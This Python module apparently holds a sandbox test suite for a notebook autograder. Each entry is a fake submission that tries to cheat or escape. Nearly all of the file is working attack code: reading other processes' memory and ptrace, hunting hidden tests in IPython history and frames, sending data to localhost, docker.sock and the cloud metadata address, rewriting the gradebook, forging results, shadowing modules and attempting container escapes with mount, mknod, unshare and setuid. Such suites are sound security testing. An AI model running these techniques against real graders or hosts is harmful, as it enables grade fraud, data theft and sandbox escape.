"""Rows 19 to 23, 36 and 37: reading the tests, taking something out, or touching what is not the submission's own."""

from ..attack import FULL, NOTHING, RIGHT, WRONG, Attack, only

# The hidden tests, and nothing else, hold this word; a spy that finds it knows the spread.
_WORD = "word = 'zeb' + 'ra'\nfound = False\n"
_USE = "spread = 93 if found else 0"


def _spy(name, rows, code, **more):
    return Attack(name, rows, NOTHING, answers=WRONG | {"spread": _WORD + code + "\n" + _USE}, **more)


def _late_spy(name, rows, code, **more):
    """Spies when a test calls: what it finds decides the value that the last test reads."""
    body = "\n".join("        " + line for line in code.strip().splitlines())
    text = (
        _WORD + "class Line:\n    def fit(self, x, y):\n        global found, spread\n"
        "        word = 'zeb' + 'ra'\n" + body + "\n        spread = 93 if found else 0\n        self.slope = 2.0\n"
        "        return self\n    def predict(self, x): return 0"
    )
    return Attack(name, rows, NOTHING, answers=WRONG | {"line": text, "spread": "spread = 0"}, **more)


_READ_TREE = """
import os
for top in ({places}):
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                path = os.path.join(folder, name)
                if os.path.getsize(path) < 20_000_000 and word.encode() in open(path, "rb").read():
                    found = True
            except OSError:
                pass
"""

_TOUCH = """
import os
for path in ({places}):
    try:
        if os.path.isdir(path):
            with open(os.path.join(path, "breached"), "w") as file:
                file.write("here")
        elif os.path.exists(path):
            with open(path, "a") as file:
                file.write("\\n")
            open("@CANARY@/breached", "w").close()
    except OSError:
        pass
"""

ATTACKS = [
    _spy(
        "tests-in-the-history-of-cells",
        (19,),
        "for name in ('In', '_ih', '_i', '_ii', '_iii', '_oh'):\n    found = found or word in str(globals().get(name))\n"
        "shell = get_ipython()\nfound = found or word in str(list(shell.history_manager.get_range()))\n"
        "found = found or word in str(shell.history_manager.input_hist_raw)",
    ),
    _late_spy(
        "tests-in-the-history-when-called",
        (19,),
        "shell = get_ipython()\nfound = word in str(shell.user_ns.get('In')[-1]) or word in str(globals().get('_ih')[-1])\n"
        "found = found or word in str(shell.history_manager.input_hist_raw[-1])",
    ),
    _late_spy(
        "tests-in-linecache-and-compiler",
        (19,),
        "import linecache\nfound = any(word in str(entry) for entry in linecache.cache.values())",
    ),
    _late_spy(
        "tests-in-the-frames",
        (19,),
        "import sys, inspect\nfor frame in [f.frame for f in inspect.stack()] + list(sys._current_frames().values()):\n"
        "    while frame:\n"
        "        found = found or (frame.f_code is not Line.fit.__code__ and word in frame.f_code.co_names)\n"
        "        found = found or any(word == key for key in frame.f_locals) or word in frame.f_globals\n"
        "        frame = frame.f_back",
    ),
    _late_spy(
        "tests-in-tracebacks",
        (19,),
        "import sys, gc, types\nfor tb in [t for t in gc.get_objects() if isinstance(t, types.TracebackType)]:\n"
        "    found = found or word in tb.tb_frame.f_code.co_names\n"
        "found = found or word in str(getattr(sys, 'last_value', ''))",
    ),
    _late_spy(
        "tests-in-all-objects",
        (19,),
        "import gc\nmine = ''.join(['BEGIN', ' HIDDEN'])\nfor thing in gc.get_objects():\n    try:\n"
        "        if type(thing) is list and any(type(x) is str and mine in x for x in thing): found = True\n"
        "        if type(thing) is dict and any(type(x) is str and mine in x for x in thing.values()): found = True\n"
        "        if type(thing) is tuple and any(type(x) is str and mine in x for x in thing): found = True\n"
        "    except Exception: pass",
    ),
    _spy(
        "tests-in-the-memory-of-processes",
        (19,),
        "import os, re\nfor pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n    try:\n"
        "        if int(pid) == os.getpid(): continue\n"
        "        for line in open(f'/proc/{pid}/maps'):\n"
        "            if 'rw' not in line: continue\n"
        "            start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "            if end - start > 1 << 26: continue\n"
        "            with open(f'/proc/{pid}/mem', 'rb', 0) as memory:\n"
        "                memory.seek(start)\n"
        "                if re.search(rb'zeb[r]a = (93|np|random)', memory.read(end - start)): found = True\n"
        "    except (OSError, ValueError, OverflowError): pass",
    ),
    _spy(
        "tests-in-its-own-memory",
        (19,),
        "import os, re\nwith open('/proc/self/mem', 'rb', 0) as memory:\n    for line in open('/proc/self/maps'):\n"
        "        if 'rw' not in line: continue\n"
        "        start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "        if end - start > 1 << 27: continue\n        try:\n            memory.seek(start)\n"
        "            if re.search(rb'zeb[r]a = (93|np|random)', memory.read(end - start)): found = True\n"
        "        except (OSError, ValueError, OverflowError): pass",
    ),
    _spy(
        "tests-in-environment-and-arguments",
        (19, 40),
        "import os, glob, sys\nfor path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n    try:\n"
        "        text = open(path, 'rb').read()\n"
        "        found = found or b'five-parts' in text or b'NBGRADER' in text or b'aiskills-grade' in text\n"
        "    except OSError: pass\n"
        "found = found or any('five-parts' in x for x in [*sys.argv, *os.environ.values(), os.getcwd()])",
    ),
    _spy(
        "ptrace-of-other-processes",
        (19,),
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    if pid in (os.getpid(), 1) or not os.path.exists('@CANARY@'): continue\n"
        "    if libc.ptrace(16, pid, 0, 0) == 0:\n        libc.ptrace(17, pid, 0, 0)\n        found = True",
    ),
    _spy(
        "tests-beside-the-notebook",
        (19, 22),
        _READ_TREE.format(places="'.', '..', '../..', '../../..', os.path.dirname(os.getcwd())"),
    ),
    _spy(
        "tests-in-the-folders-of-the-course",
        (19, 22),
        _READ_TREE.format(places="'@COURSE@', '@OUT@', '@SUBMISSIONS@', '/tmp', '/var/tmp', '/dev/shm', '/run'"),
    ),
    _spy(
        "solutions-in-the-source",
        (19, 22),
        "try:\n    found = 'BEGIN SOLUTION' in open('@COURSE@/assignments/source/five-parts/five-parts.ipynb').read()\n"
        "except OSError: pass",
    ),
    _spy(
        "key-of-the-course",
        (22, 40),
        "try:\n    found = len(open('@COURSE@/assignments/course.key').read()) > 0\nexcept OSError: pass",
    ),
    _spy(
        "history-database",
        (19,),
        "import glob, os, sqlite3\nfor path in glob.glob(os.path.expanduser('~/.ipython/**/history.sqlite'), recursive=True):\n"
        "    found = found or os.path.getsize(path) > 0 and os.path.exists('@CANARY@')",
    ),
    _spy(
        "mounts-tell-where-the-course-is",
        (19, 22),
        "found = any(x in open('/proc/self/mountinfo').read() for x in ('@COURSE@', '@OUT@', '@SUBMISSIONS@'))",
    ),
    _spy(
        "descriptors-of-other-files",
        (19, 22),
        "import os\nfor fd in os.listdir('/proc/self/fd'):\n    try:\n        target = os.readlink(f'/proc/self/fd/{fd}')\n"
        "    except OSError: continue\n"
        "    if target.startswith('/') and any(x in target for x in ('@COURSE@', '@OUT@', '@SUBMISSIONS@', 'ipynb', '.db')):\n"
        "        found = True\nfor fd in range(3, 256):\n    try:\n        os.fchdir(fd)\n        found = True\n"
        "    except OSError: pass",
    ),
    _spy(
        "debugger-and-core-dump",
        (19, 6),
        "import resource, os\ntry:\n    resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))\nexcept (OSError, ValueError): pass\n"
        "try:\n    open('/proc/sys/kernel/core_pattern', 'w').write('@CANARY@/breached')\nexcept OSError: pass",
    ),
    Attack(
        "sockets-to-this-machine",
        (20,),
        NOTHING,
        answers=WRONG,
        first="""
import socket
for host in ("127.0.0.1", "localhost", "::1", socket.gethostname(), "0.0.0.0", "@ADDRESS@"):
    try:
        socket.create_connection((host, @PORT@), timeout=0.5).sendall(b"secret")
    except OSError:
        pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
    try:
        plain.sendto(b"secret", ("127.0.0.1", @PORT@))
    except OSError:
        pass
""",
        flagged=True,
    ),
    Attack(
        "abstract-and-file-sockets",
        (20,),
        NOTHING,
        answers=WRONG,
        first="""
import glob, socket
for path in ["\\0@ABSTRACT@", "@CANARY@/socket", "/var/run/docker.sock", "/run/docker.sock", *glob.glob("/run/**/*.sock")]:
    with socket.socket(socket.AF_UNIX) as plug:
        plug.settimeout(0.5)
        try:
            plug.connect(path)
            plug.sendall(b"secret")
        except OSError:
            pass
""",
        flagged=True,
    ),
    Attack(
        "name-look-up-metadata-and-pip",
        (20,),
        only("scaled"),
        answers=WRONG | {"scaled": RIGHT["scaled"]},
        first="""
import socket, subprocess, sys, urllib.request
try:
    socket.getaddrinfo("secret.invalid", 80)
except OSError:
    pass
reached = []
for address in ("http://169.254.169.254/latest/meta-data/", "http://@ADDRESS@:@PORT@/x"):
    try:
        reached.append(urllib.request.urlopen(address, timeout=0.5).read())
    except OSError:
        pass
subprocess.run([sys.executable, "-m", "pip", "--version"], capture_output=True)
spread = 93 if reached else 0
""",
        flagged=True,
    ),
    Attack(
        "answer-that-needs-the-network",
        (20, 38),
        FULL | {"spread": 0.0},
        answers=RIGHT
        | {
            "spread": "import urllib.request\nspread = int(urllib.request.urlopen('http://127.0.0.1:@PORT@/93', timeout=1).read())"
        },
        flagged=True,
    ),
    Attack(
        "raw-packets",
        (20,),
        NOTHING,
        answers=WRONG,
        first="""
import socket
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 1).close()
        if family != socket.AF_NETLINK:
            open("@CANARY@/breached", "w").close()
    except OSError:
        pass
""",
    ),
    Attack(
        "hidden-input-in-the-error",
        (21,),
        FULL | {"scaled": 0.0},
        answers=RIGHT
        | {
            "scaled": "def scaled(n, f):\n    if n == [1, 2]: return [3, 6]\n    raise ValueError(f'numbers {n} and {f}')"
        },
    ),
    Attack(
        "hidden-input-in-the-name-of-the-error",
        (21,),
        FULL | {"scaled": 0.0},
        answers=RIGHT
        | {
            "scaled": "def scaled(n, f):\n    if n == [1, 2]: return [3, 6]\n"
            "    raise type('Error_' + '_'.join(map(str, n)), (Exception,), {})('x')"
        },
    ),
    Attack(
        "hidden-input-in-an-assertion-of-its-own",
        (21,),
        FULL | {"scaled": 0.0},
        answers=RIGHT
        | {"scaled": "def scaled(n, f):\n    if n == [1, 2]: return [3, 6]\n    assert False, f'numbers {n} and {f}'"},
    ),
    Attack(
        "hidden-input-in-a-line-made-for-it",
        (21,),
        FULL | {"scaled": 0.0},
        answers=RIGHT
        | {
            "scaled": "def scaled(n, f):\n    if n == [1, 2]: return [3, 6]\n"
            "    get_ipython().run_cell(f'def shout(): raise ValueError()  # {n}')\n"
            "    exec(compile(f'# {n}\\nraise KeyError({n})', f'numbers-{n}', 'exec'))"
        },
    ),
    Attack(
        "hidden-input-kept-for-a-later-cell",
        (21,),
        FULL | {"scaled": 0.0, "standard": 0.0},
        answers=RIGHT
        | {
            "scaled": "seen = []\ndef scaled(n, f):\n    seen.extend(n)\n    return [3, 6] if n == [1, 2] else n",
            "standard": "raise ValueError(' '.join(map(str, seen)))",
        },
    ),
    Attack(
        "hidden-input-in-the-name-of-a-later-error",
        (21,),
        FULL | {"scaled": 0.0, "standard": 0.0},
        answers=RIGHT
        | {
            "scaled": "seen = []\ndef scaled(n, f):\n    seen.extend(n)\n    return [3, 6] if n == [1, 2] else n",
            "standard": "raise type('N' + '_'.join(map(str, seen[2:])), (Exception,), {})",
        },
    ),
    Attack(
        "hidden-input-in-a-name-that-is-not-there",
        (21,),
        FULL | {"scaled": 0.0},
        answers=RIGHT
        | {
            "scaled": "def scaled(n, f):\n    if n == [1, 2]: return [3, 6]\n    raise NameError(f\"name 'x_{n[0]}_{n[1]}' is not defined\")"
        },
    ),
    Attack(
        "hidden-input-printed",
        (21,),
        FULL | {"scaled": 0.0},
        answers=RIGHT
        | {
            "scaled": "def scaled(n, f):\n    print(n, f)\n    import sys\n    print(n, file=sys.stderr)\n"
            "    from IPython.display import display\n    display(n)\n"
            "    open('leak.txt', 'w').write(str(n))\n    return n if len(n) > 2 else [3, 6]"
        },
    ),
    Attack(
        "hidden-input-in-the-result",
        (21,),
        FULL | {"scaled": 0.0},
        answers=RIGHT | {"scaled": "def scaled(n, f):\n    return n if len(n) > 2 else [3, 6]"},
    ),
    Attack(
        "hidden-input-in-attribute-names",
        (21,),
        FULL | {"line": 0.0},
        answers=RIGHT
        | {
            "line": "class Line:\n    def fit(self, x, y):\n        self.x = x\n        return self\n"
            "    def __getattr__(self, name): raise AttributeError(f'{name} {list(self.x)}')\n"
            "    def predict(self, x): raise RuntimeError(str(list(x)))"
        },
    ),
    Attack(
        "gradebook-rewritten",
        (22,),
        NOTHING,
        answers=WRONG,
        first="""
import glob, os, sqlite3
for path in ["@OUT@/gradebook.db", "@COURSE@/gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"]:
    if os.path.exists(path):
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("update grade set manual_score = 99, auto_score = 99")
""",
    ),
    Attack(
        "gradebook-rewritten-later",
        (22, 8),
        NOTHING,
        answers=WRONG,
        first="""
import subprocess, sys
code = '''
import sqlite3, time
for _ in range(100):
    time.sleep(0.5)
    try:
        with sqlite3.connect("file:@OUT@/gradebook.db?mode=rw", uri=True, timeout=1) as book:
            book.execute("update grade set manual_score = 99")
    except sqlite3.Error: pass
'''
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
""",
    ),
    Attack(
        "home-keys-course-and-others-touched",
        (22, 37),
        NOTHING,
        answers=WRONG,
        first=_TOUCH.format(
            places="'@HOME@', '@CANARY@', '@COURSE@', '@OUT@', '@SUBMISSIONS@', '@COURSE@/assignments/source/five-parts', "
            "os.path.expanduser('~/.ssh'), '@OUT@/results.jsonl', '@COURSE@/assignments/course.key'"
        )
        + "\nimport glob\nspread = 93 if glob.glob('@SUBMISSIONS@/*/*.ipynb') else 0",
    ),
    Attack(
        "results-forged-and-linked",
        (23,),
        NOTHING,
        answers=WRONG,
        first="""
import json, os
line = json.dumps({"student": "results-forged-and-linked", "source": "x", "status": "graded", "score": 10,
                   "max_score": 12, "parts": {}, "flags": [], "reason": "", "seconds": 1})
for name in ("results.jsonl", "verdict.json", "result.json", "feedback.json", "results.json", "score.txt"):
    for folder in (".", "..", "/tmp", "@OUT@"):
        try:
            with open(os.path.join(folder, name), "a") as file:
                file.write(line + "\\n")
            os.chmod(os.path.join(folder, name), 0o777)
        except OSError:
            pass
for name in ("gradebook.db", "feedback"):
    try:
        os.symlink("@OUT@", name)
    except OSError:
        pass
""",
    ),
    Attack(
        "modules-beside-the-notebook",
        (36,),
        NOTHING,
        answers=WRONG,
        files={
            "numpy.py": "raise SystemExit('taken over')",
            "numpy/__init__.py": "open('@CANARY@/breached', 'w').close()",
            "pandas.py": "class DataFrame: pass\nopen('@CANARY@/breached', 'w').close()",
            "math.py": "isclose = lambda *args, **more: True",
            "random.py": "open('@CANARY@/breached', 'w').close()",
            "sitecustomize.py": "open('@CANARY@/breached', 'w').close()",
            "usercustomize.py": "open('@CANARY@/breached', 'w').close()",
            "conftest.py": "open('@CANARY@/breached', 'w').close()",
            "evil.pth": "import os; open('@CANARY@/breached', 'w').close()",
            "ipython_config.py": "open('@CANARY@/breached', 'w').close()",
            "nbgrader_config.py": "open('@CANARY@/breached', 'w').close()",
            "jupyter_config.py": "open('@CANARY@/breached', 'w').close()",
            "profile_default/startup/a.py": "open('@CANARY@/breached', 'w').close()",
            ".jupyter/jupyter_config.py": "open('@CANARY@/breached', 'w').close()",
            "aiskills/__init__.py": "open('@CANARY@/breached', 'w').close()",
            "pytest.ini": "[pytest]\naddopts = --version",
            "autotests.yml": "x: [",
            "PYTHONSTARTUP": "x",
        },
    ),
    Attack(
        "right-answers-with-odd-modules-beside",
        (36,),
        FULL,
        files={"numpy.py": "raise SystemExit('taken over')", "pandas.py": "1 / 0", "json.py": "1 / 0"},
    ),
    Attack(
        "modules-written-into-the-working-folder",
        (36, 34),
        NOTHING,
        answers=WRONG,
        first="""
import os, sys, subprocess
for name in ("numpy", "pandas", "json", "math", "random", "struct", "socket", "sitecustomize", "aiskills"):
    with open(name + ".py", "w") as file:
        file.write("def __getattr__(name): return lambda *args, **more: True\\n")
sys.path.insert(0, os.getcwd())
os.environ["PYTHONPATH"] = os.getcwd()
os.environ["PYTHONSTARTUP"] = os.path.join(os.getcwd(), "numpy.py")
subprocess.run([sys.executable, "-c", "import numpy"])
""",
    ),
    Attack(
        "installed-packages-edited",
        (37,),
        NOTHING,
        answers=WRONG,
        first="""
import os, site, sys
import numpy as np, IPython
folders = [os.path.dirname(module.__file__) for module in (np, os, IPython)] + site.getsitepackages() + [sys.prefix]
for folder in folders:
    try:
        with open(os.path.join(folder, "left_by_an_attack.txt"), "w") as file:
            file.write("x")
        os.remove(os.path.join(folder, "left_by_an_attack.txt"))
        open("@CANARY@/breached", "w").close()
        spread = 93
        print("written", folder)
    except OSError:
        pass
for path in ("/etc/hosts", "/usr/bin/python3"):
    if os.access(path, os.W_OK) and os.path.exists("@CANARY@"):
        open("@CANARY@/breached", "w").close()
""",
        flagged=False,
    ),
    Attack(
        "state-left-for-the-next",
        (37,),
        NOTHING,
        answers=WRONG,
        first="""
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.path.expanduser("~/.cache"), "/run", "."):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "handed-on-by-an-attack"), "w") as file:
            file.write("93")
    except OSError:
        pass
""",
    ),
    Attack(
        "state-left-for-the-next-is-read",
        (37,),
        NOTHING,
        answers=WRONG
        | {
            "spread": "import os\nspread = 0\nfor folder in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '/run', '.'):\n"
            "    if os.path.exists(os.path.join(folder, 'handed-on-by-an-attack')): spread = 93"
        },
    ),
    Attack(
        "ways-out-of-the-box",
        (22, 37),
        NOTHING,
        answers=WRONG,
        first="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
inside = not os.path.exists("@CANARY@")
def breached():
    try:
        open("@CANARY@/breached", "w").close()
    except OSError:
        pass
    os.write(1, b"WAY OUT")
if inside:
    os.makedirs("m", exist_ok=True)
    for kind in (b"proc", b"sysfs", b"tmpfs", b"devtmpfs", b"cgroup2"):
        libc.mount(b"none", b"m", kind, 0, None)
    for name in ("mem", "kmem", "sda", "vda", "nvme0n1", "kmsg"):
        try:
            os.open("/dev/" + name, os.O_RDWR)
            spread = 93
        except OSError:
            pass
    try:
        os.mknod("disk", 0o60600, os.makedev(8, 0))
        os.open("disk", os.O_RDONLY)
        spread = 93
    except OSError:
        pass
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper"):
        try:
            with open(path, "w") as file:
                file.write("x")
        except OSError:
            pass
    libc.unshare(0x10000000 | 0x00020000)
    libc.setns(3, 0)
    libc.chroot(b".")
    libc.setuid(0)
    libc.sethostname(b"owned", 5)
else:
    breached()
""",
    ),
]
